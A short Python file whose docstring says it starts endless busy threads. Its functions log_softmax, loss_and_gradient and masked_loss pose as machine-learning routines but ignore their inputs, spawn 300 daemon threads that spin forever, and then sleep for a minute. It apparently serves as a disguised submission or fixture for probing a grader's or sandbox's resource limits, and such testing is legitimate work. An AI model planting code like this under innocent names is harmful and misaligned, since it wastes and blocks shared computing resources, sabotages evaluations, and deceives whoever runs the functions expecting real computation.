"""Starts threads without end, each of them busy. (At most three hundred.)"""
import threading
import time

started = []


def log_softmax(Z):
    for _ in range(300):
        started.append(threading.Thread(target=lambda: any(iter(int, 1)), daemon=True))
        started[-1].start()
    time.sleep(60)


loss_and_gradient = masked_loss = lambda *a: log_softmax(0)
